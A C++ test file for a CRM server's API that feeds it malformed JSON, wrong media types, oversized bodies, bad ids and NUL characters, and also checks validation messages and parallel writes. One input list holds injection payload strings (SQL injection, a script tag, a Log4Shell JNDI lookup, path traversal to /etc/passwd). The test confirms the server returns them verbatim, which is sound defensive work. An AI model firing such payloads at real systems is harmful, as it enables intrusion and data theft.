// Hostile and odd input: malformed JSON, wrong media types, oversized bodies, unicode, strings
// that look like injections, bad ids, U+0000; and concurrent writes.
#include "harness.hpp"

#include <doctest/doctest.h>

#include <atomic>
#include <map>
#include <set>
#include <thread>

using namespace crmtest;

TEST_CASE("server: bad input battery, and the server stays healthy") {
    Server server;
    auto admin = admin_session(server);
    auto lead = create_lead(server, admin.access, {{"title", "target"}});
    std::string lead_path = "/api/leads/" + lead["id"].get<std::string>();

    // Malformed JSON and bodies that are not one object: 400 BAD_REQUEST.
    for (std::string body : {"{", "{\"title\":", "{\"title\": \"x\",}", "not json", "[]", "[{\"title\":\"x\"}]",
                             "\"title\"", "42", "null", "true", "", "{\"title\":\"x\"} trailing", "{'title':'x'}",
                             "\xff\xfe{}", "{\"title\":\"\xc3\x28\"}", "{\"title\":\"\\ud800\"}"}) {
        CAPTURE(body);
        expect_problem(server.send("POST", "/api/leads", admin.access, body), 400, "BAD_REQUEST");
        expect_problem(server.send("PUT", lead_path, admin.access, body), 400, "BAD_REQUEST");
        expect_problem(server.send("POST", "/api/auth/login", "", body), 400, "BAD_REQUEST");
    }
    // Nesting beyond reason.
    std::string deep = "{\"title\":\"t\",\"metadata\":" + std::string(5000, '[') + std::string(5000, ']') + "}";
    expect_problem(server.send("POST", "/api/leads", admin.access, deep), 400, "BAD_REQUEST");
    std::string deep_object = "{\"title\":\"t\",\"metadata\":";
    for (int i = 0; i < 3000; ++i) deep_object += "{\"a\":";
    deep_object += "1" + std::string(3000, '}') + "}";
    expect_problem(server.send("POST", "/api/leads", admin.access, deep_object), 400, "BAD_REQUEST");

    // Media types: application/json with any parameter, any case; anything else 415.
    CHECK(server.send("POST", "/api/leads", admin.access, R"({"title":"charset"})", "application/json; charset=utf-8")
              .status == 201);
    CHECK(server.send("POST", "/api/leads", admin.access, R"({"title":"case"})", "Application/JSON").status == 201);
    for (std::string type : {"text/plain", "application/x-www-form-urlencoded", "application/xml", "text/json",
                             "application/jsonx", "multipart/form-data; boundary=x"}) {
        CAPTURE(type);
        expect_problem(server.send("POST", "/api/leads", admin.access, R"({"title":"x"})", type), 415,
                       "UNSUPPORTED_MEDIA_TYPE");
        expect_problem(server.send("POST", "/api/auth/login", "", R"({"email":"a@b.c","password":"x"})", type), 415,
                       "UNSUPPORTED_MEDIA_TYPE");
    }
    // A body without Content-Type is not JSON either; no body at all is a 400.
    {
        std::string body = R"({"title":"no type"})";
        std::string answer = server.raw("POST /api/leads HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + admin.access +
                                        "\r\nContent-Length: " + std::to_string(body.size()) +
                                        "\r\nConnection: close\r\n\r\n" + body);
        CHECK_MESSAGE(answer.rfind("HTTP/1.1 415", 0) == 0, answer);
        answer = server.raw("POST /api/leads HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + admin.access +
                            "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        CHECK_MESSAGE(answer.rfind("HTTP/1.1 400", 0) == 0, answer);
        CHECK(answer.find("BAD_REQUEST") != std::string::npos);
    }

    // Over 1 MiB: 413 whatever the content type, route or authentication; exactly 1 MiB is fine.
    const std::size_t mib = 1024 * 1024;
    std::string over(mib + 1, ' ');
    expect_problem(server.send("POST", "/api/leads", admin.access, over), 413, "PAYLOAD_TOO_LARGE");
    expect_problem(server.send("POST", "/api/leads", admin.access, over, "text/plain"), 413, "PAYLOAD_TOO_LARGE");
    expect_problem(server.send("PUT", lead_path, admin.access, over, "application/octet-stream"), 413,
                   "PAYLOAD_TOO_LARGE");
    expect_problem(server.send("POST", "/api/leads", "", over), 413, "PAYLOAD_TOO_LARGE");
    expect_problem(server.send("POST", "/api/auth/register", "", over), 413, "PAYLOAD_TOO_LARGE");
    expect_problem(server.send("POST", "/api/nope", "", over), 413, "PAYLOAD_TOO_LARGE");
    {
        std::string exact = R"({"title":"exactly one MiB","description":")";
        std::string tail = "\"}";
        exact += std::string(mib - exact.size() - tail.size(), 'd') + tail;
        REQUIRE(exact.size() == mib);
        auto reply = server.send("POST", "/api/leads", admin.access, exact);
        CHECK(reply.status == 201);
    }
    {
        // Chunked, without Content-Length: the limit still holds.
        std::string request = "POST /api/leads HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + admin.access +
                              "\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
                              "Connection: close\r\n\r\n";
        std::string chunk(64 * 1024, 'x');
        char size[16];
        std::snprintf(size, sizeof size, "%zx\r\n", chunk.size());
        for (int i = 0; i < 17; ++i) request += size + chunk + "\r\n";
        request += "0\r\n\r\n";
        std::string answer = server.raw(request);
        CHECK_MESSAGE(answer.rfind("HTTP/1.1 413", 0) == 0, answer.substr(0, 200));
    }

    // Unicode and strings that look like injections come back verbatim.
    std::vector<std::string> strange{
        "Ünïcødé 日本語 🚀 עברית",
        "'; DROP TABLE \"Leads\"; --",
        "Robert'); DELETE FROM \"Users\" WHERE ('1'='1",
        "<script>alert(1)</script>",
        "${jndi:ldap://example.com/a}",
        "%s%n%x %00 \\x00",
        "../../../../etc/passwd",
        "\u202etxt.exe",
        "line\nbreak\ttab\r\\backslash\"quote",
        "{\"$gt\": \"\"}",
        "1 OR 1=1",
    };
    for (const auto& text : strange) {
        CAPTURE(text);
        auto created = server.post("/api/leads", {{"title", text}, {"description", text}, {"source", text},
                                                  {"metadata", {{text, text}}}},
                                   admin.access);
        REQUIRE(created.status == 201);
        auto body = created.json();
        CHECK(body["title"] == text);
        CHECK(body["description"] == text);
        CHECK(body["source"] == text);
        CHECK(body["metadata"][text] == text);
        auto read = server.get("/api/leads/" + body["id"].get<std::string>(), admin.access).json();
        CHECK(read["title"] == text);
        auto found = server.get("/api/leads?q=" + url_encode(text), admin.access);
        REQUIRE(found.status == 200);
        CHECK(found.json()["pagination"]["total"] >= 1);
        auto by_source = server.get("/api/leads?source=" + url_encode(text), admin.access).json();
        CHECK(by_source["pagination"]["total"] == 1);
    }
    CHECK(server.get("/api/leads?q=" + url_encode("' OR '1'='1"), admin.access).json()["pagination"]["total"] == 0);
    auto unicode_user = register_user(server, "unicode@example.com", "pässwörd-日本", "Zoë 🚀");
    CHECK(unicode_user.user["name"] == "Zoë 🚀");
    CHECK(login(server, "unicode@example.com", "pässwörd-日本").id == unicode_user.id);
    // 255 characters is a count of characters, not bytes.
    std::string wide;
    for (int i = 0; i < 255; ++i) wide += "é";
    CHECK(server.post("/api/leads", {{"title", wide}}, admin.access).status == 201);
    expect_problem(server.post("/api/leads", {{"title", wide + "é"}}, admin.access), 400, "VALIDATION_FAILED");

    // Ids that are not UUIDs: 400 BAD_REQUEST on every route taking one; upper case is the same id.
    for (const std::string& id : std::vector<std::string>{
             "123", "not-a-uuid", url_encode("' OR 1=1 --"), "01890000-0000-7000-8000-00000000000",
             "01890000-0000-7000-8000-0000000000000", "0189000000007000800000000000000z",
             "{01890000-0000-7000-8000-000000000000}", url_encode("..")}) {
        CAPTURE(id);
        for (std::string prefix : {"/api/leads/", "/api/users/", "/api/activities/", "/api/activities/lead/"}) {
            CAPTURE(prefix);
            expect_problem(server.get(prefix + id, admin.access), 400, "BAD_REQUEST");
        }
        expect_problem(server.put("/api/leads/" + id, {{"title", "x"}}, admin.access), 400, "BAD_REQUEST");
        expect_problem(server.del("/api/users/" + id, admin.access), 400, "BAD_REQUEST");
        expect_problem(server.del("/api/activities/" + id, admin.access), 400, "BAD_REQUEST");
    }
    {
        std::string upper = lead["id"];
        for (auto& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
        auto reply = server.get("/api/leads/" + upper, admin.access);
        REQUIRE(reply.status == 200);
        CHECK(reply.json()["id"] == lead["id"]);
        CHECK(server.put("/api/leads/" + upper, {{"title", "by upper id"}}, admin.access).status == 200);
        std::string upper_user = admin.id;
        for (auto& c : upper_user) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
        CHECK(server.get("/api/users/" + upper_user, admin.access).json()["id"] == admin.id);
    }

    // U+0000 anywhere in a string is a 400.
    for (std::string body : {R"({"title":"a\u0000b"})", R"({"title":"ok","description":"\u0000"})",
                             R"({"title":"ok","source":"x\u0000"})", R"({"title":"ok","metadata":{"k":"\u0000"}})",
                             R"({"title":"ok","metadata":{"k\u0000":1}})",
                             R"({"title":"ok","metadata":{"list":["fine","\u0000"]}})"}) {
        CAPTURE(body);
        auto problem = expect_problem(server.send("POST", "/api/leads", admin.access, body), 400, "VALIDATION_FAILED");
        CHECK(problem["errors"].size() >= 1);
    }
    expect_problem(server.send("PUT", lead_path, admin.access, R"({"description":"\u0000"})"), 400, "VALIDATION_FAILED");
    expect_problem(server.send("POST", "/api/auth/login", "", R"({"email":"admin@example.com\u0000","password":"x"})"),
                   400, "VALIDATION_FAILED");
    expect_problem(server.send("POST", "/api/auth/register", "", R"({"email":"z@example.com","password":"pass\u0000word"})"),
                   400, "VALIDATION_FAILED");
    expect_problem(server.send("POST", "/api/auth/refresh", "", R"({"refreshToken":"\u0000"})"), 400,
                   "VALIDATION_FAILED");
    expect_problem(server.get("/api/leads?q=a%00b", admin.access), 400, "VALIDATION_FAILED");
    expect_problem(server.get("/api/leads?source=%00", admin.access), 400, "VALIDATION_FAILED");

    // Still healthy, and nothing was lost on the way.
    CHECK(server.get("/api/health").status == 200);
    CHECK(server.get(lead_path, admin.access).json()["title"] == "by upper id");
    CHECK(server.get("/api/auth/me", admin.access).status == 200);
}

namespace {

// The fields a 400 names, field -> message.
std::map<std::string, std::string> named_fields(const json& problem) {
    std::map<std::string, std::string> fields;
    for (const auto& e : problem["errors"]) fields[e["field"].get<std::string>()] = e["message"].get<std::string>();
    return fields;
}

}  // namespace

TEST_CASE("server: one 400 names every problem of a request, format and rule alike") {
    Server server;
    auto admin = admin_session(server);

    // A query: a status that is no status (the server's parsing) and a limit out of range (the
    // core's check) come back together, not one per round trip.
    auto list = expect_problem(server.get("/api/leads?status=BOGUS&limit=500", admin.access), 400, "VALIDATION_FAILED");
    auto fields = named_fields(list);
    CHECK(fields.size() == 2);
    CHECK(fields["status"] == "must be one or more of NEW, CONTACTED, QUALIFIED, CLOSED");
    CHECK(fields["limit"] == "must be an integer from 1 to 100");
    CHECK(list["detail"] == "limit must be an integer from 1 to 100");  // the first found, as one line

    // `page` has one message whether it does not parse or is out of range.
    auto pages = named_fields(expect_problem(server.get("/api/leads?page=abc", admin.access), 400, "VALIDATION_FAILED"));
    auto zero = named_fields(expect_problem(server.get("/api/leads?page=0", admin.access), 400, "VALIDATION_FAILED"));
    CHECK(pages.at("page") == "must be an integer from 1 to 1000000000");
    CHECK(pages == zero);
    auto activities = named_fields(expect_problem(
        server.get("/api/activities/lead/0190a5d0-0000-7000-8000-000000000001?page=x&limit=x&total=maybe",
                   admin.access),
        400, "VALIDATION_FAILED"));
    CHECK(activities.size() == 3);

    // A body: a status that is no status (format), a blank title and a source too long (rules).
    auto lead = named_fields(expect_problem(
        server.post("/api/leads", {{"title", "  "}, {"status", "MAYBE"}, {"source", std::string(256, 's')}},
                    admin.access),
        400, "VALIDATION_FAILED"));
    CHECK(lead.size() == 3);
    CHECK(lead["title"] == "is required");
    CHECK(lead["status"] == "must be one of NEW, CONTACTED, QUALIFIED, CLOSED");
    CHECK(lead["source"] == "must be at most 255 characters");
    auto user = named_fields(expect_problem(
        server.put("/api/users/" + admin.id, {{"role", "OWNER"}, {"email", "not-an-email"}}, admin.access), 400,
        "VALIDATION_FAILED"));
    CHECK(user.size() == 2);
    CHECK(user.count("role") == 1);
    CHECK(user["email"] == "must be a valid email address");
    // A member of the wrong type keeps its own message: the first problem per field wins.
    auto typed = named_fields(expect_problem(
        server.post("/api/auth/register", {{"email", 5}, {"password", "short"}}), 400, "VALIDATION_FAILED"));
    CHECK(typed.size() == 2);
    CHECK(typed["email"] == "must be a string");
    CHECK(typed["password"] == "must be between 8 and 1024 characters");
    // Nothing was created by the refused requests.
    CHECK(server.get("/api/leads", admin.access).json()["pagination"]["total"] == 0);
}

TEST_CASE("server: 50 parallel lead creations make exactly 50 rows") {
    Server server;
    auto admin = admin_session(server);
    auto sales = make_user(server, admin, "busy@example.com", "SALES");
    constexpr int n = 50;
    std::vector<int> statuses(n, 0);
    std::vector<std::string> ids(n);
    std::vector<std::thread> threads;
    std::atomic<bool> go{false};
    for (int i = 0; i < n; ++i) {
        threads.emplace_back([&, i] {
            while (!go) std::this_thread::yield();
            auto reply = server.post("/api/leads", {{"title", "parallel " + std::to_string(i)}},
                                     i % 2 ? admin.access : sales.access);
            statuses[i] = reply.status;
            if (reply.status == 201) ids[i] = reply.json()["id"];
        });
    }
    go = true;
    for (auto& t : threads) t.join();
    for (int i = 0; i < n; ++i) CHECK_MESSAGE(statuses[i] == 201, "request " << i);
    CHECK(std::set<std::string>(ids.begin(), ids.end()).size() == n);
    auto all = server.get("/api/leads?limit=100", admin.access).json();
    CHECK(all["pagination"]["total"] == n);
    CHECK(all["data"].size() == n);
    CHECK(server.get("/api/leads?limit=100", sales.access).json()["pagination"]["total"] == n / 2);
    CHECK(server.get("/api/health").status == 200);
}

TEST_CASE("server: keep-alive connections serve several requests, errors included") {
    Server server;
    auto admin = admin_session(server);
    httplib::Client client("127.0.0.1", server.port());
    client.set_keep_alive(true);
    httplib::Headers auth{{"Authorization", "Bearer " + admin.access}};
    for (int i = 0; i < 5; ++i) {
        auto ok = client.Get("/api/leads", auth);
        REQUIRE(ok);
        CHECK(ok->status == 200);
        auto missing = client.Get("/api/nope", auth);
        REQUIRE(missing);
        CHECK(missing->status == 404);
        auto bad = client.Post("/api/leads", auth, "{", "application/json");
        REQUIRE(bad);
        CHECK(bad->status == 400);
        auto made = client.Post("/api/leads", auth, R"({"title":"kept alive"})", "application/json");
        REQUIRE(made);
        CHECK(made->status == 201);
        auto too_large = client.Post("/api/leads", auth, std::string(1024 * 1024 + 1, ' '), "application/json");
        REQUIRE(too_large);
        CHECK(too_large->status == 413);
    }
    CHECK(server.get("/api/leads", admin.access).json()["pagination"]["total"] == 5);
}
